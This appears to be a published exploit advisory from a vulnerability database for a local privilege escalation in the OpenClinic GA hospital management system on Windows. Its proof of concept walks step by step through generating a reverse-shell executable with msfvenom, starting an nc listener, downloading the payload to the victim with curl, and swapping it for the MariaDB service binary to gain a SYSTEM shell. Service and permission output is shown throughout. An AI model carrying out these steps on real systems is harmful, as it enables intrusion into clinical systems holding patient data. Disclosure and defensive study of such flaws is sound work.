OpenClinic GA 5.194.18 Local Privilege Escalation

Risk: Medium
Local: Yes
Remote: No
CWE: CWE-264

# Exploit Title: OpenClinicGA 5.194.18 - Local Privilege Escalation # Date: 2021-07-24 # Author: Alessandro Salzano # Vendor Homepage: # Software Homepage: # Software Link: # Version: 5.194.18 # Tested on: Microsoft Windows 10 Enterprise x64 Open Source Integrated Hospital Information Management System. OpenClinic GA is an open source integrated hospital information management system covering management of administrative, financial, clinical, lab, x-ray, pharmacy, meals distribution and other data. Extensive statistical and reporting capabilities. Vendor: OpenClinic GA. Affected version: > 5.194.18 # Details # By default the Authenticated Users group has the modify permission to openclinic folders/files as shown below. # A low privilege account is able to rename mysqld.exe or tomcat8.exe files located in bin folders and replace # with a malicious file that would connect back to an attacking computer giving system level privileges # (nt authority\system) due to the service running as Local System. # While a low privilege user is unable to restart the service through the application, a restart of the # computer triggers the execution of the malicious file. The application also have unquoted service path issues. (1) Impacted services. Any low privileged user can elevate their privileges abusing MariaDB service: C:\projects\openclinic\mariadb\bin\mysqld.exe Details: SERVICE_NAME: OpenClinicHttp TYPE : 10 WIN32_OWN_PROCESS START_TYPE : 2 AUTO_START ERROR_CONTROL : 1 NORMAL BINARY_PATH_NAME : c:\projects\openclinic\tomcat8\bin\tomcat8.exe //RS//OpenClinicHttp LOAD_ORDER_GROUP : TAG : 0DISPLAY_NAME : OpenClinicHttp DEPENDENCIES : Tcpip : Afd SERVICE_START_NAME : NT Authority\LocalServic --- SERVICE_NAME: OpenClinicMySQL TYPE : 10 WIN32_OWN_PROCESS START_TYPE : 2 AUTO_START ERROR_CONTROL : 1 NORMAL BINARY_PATH_NAME : c:\projects\openclinic\mariadb\bin\mysqld.exe --defaults-file=c:/projects/openclinic/mariadb/my.ini OpenClinicMySQL LOAD_ORDER_GROUP : TAG : 0 DISPLAY_NAME : OpenClinicMySQL DEPENDENCIES : SERVICE_START_NAME : LocalSystem (2) Folder permissions. Insecure folders permissions issue: icacls C:\projects\openclinic C:\projects\openclinic Everyone:(I)(OI)(CI)(F) NT AUTHORITY\SYSTEM:(I)(OI)(CI)(F) # Proof of Concept 1. Generate malicious .exe on attacking machine msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=4242 -f exe > /var/www/html/mysqld_evil.exe 2. Setup listener and ensure apache is running on attacking machine nc -lvp 4242 service apache2 start 3. Download malicious .exe on victim machine type on cmd: curl -o "C:\projects\openclinic\mariadb\bin\mysqld_evil.exe" 4. Overwrite file and copy malicious .exe. Renename C:\projects\openclinic\mariadb\bin\mysqld.exe > mysqld.bak Rename downloaded 'mysqld_evil.exe' file in mysqld.exe5. Restart victim machine 6. Reverse Shell on attacking machine opens C:\Windows\system32>whoami whoami nt authority\system

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.(*) - required fields.
{{x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2023,


Back to Top